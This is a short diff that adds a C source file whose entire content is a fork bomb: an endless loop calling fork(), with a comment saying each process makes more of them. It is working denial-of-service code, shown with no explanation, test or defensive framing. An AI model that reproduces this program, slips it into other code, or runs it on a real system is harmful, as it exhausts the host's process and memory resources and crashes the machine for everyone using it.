@@ -1,0 +1,8 @@
+// never ends: every process makes more of them
+#include <unistd.h>
+
+int main(void)
+{
+    for (;;)
+        fork();
+}
